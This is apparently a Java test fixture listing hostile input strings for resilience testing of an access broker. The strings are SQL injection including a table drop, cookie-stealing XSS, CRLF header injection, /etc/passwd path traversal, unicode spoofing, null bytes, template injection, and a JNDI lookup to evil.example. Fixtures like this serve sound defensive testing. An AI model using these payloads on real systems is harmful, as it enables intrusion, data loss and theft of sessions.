package io.accessloop.broker.resilience;

import java.util.List;

/** Text an attacker puts into every field: injections, unicode tricks and control characters. */
final class HostileStrings {

    static final List<String> ALL = List.of(
            "' OR '1'='1",
            "prod-readonly'; drop table access_grant; --",
            "prod-readonly\" OR 1=1 --",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "line\r\nSet-Cookie: session=evil",
            "prod-readonly\r\nX-Injected: 1",
            "../../../../etc/passwd",
            "..%2F..%2Fetc%2Fpasswd",
            "prod\u202Eylnodaer-",
            "prod\u200B-readonly",
            "prod-readonly\uFEFF",
            "pr\u043Ed-readonly",
            "PROD-READONLY",
            " prod-readonly ",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "%00prod-readonly",
            "prod-readonly\u0000",
            "\uD83D\uDE00\uD83D\uDE00",
            "*",
            "%",
            "prod-readonly/../prod-admin");

    private HostileStrings() {
    }
}
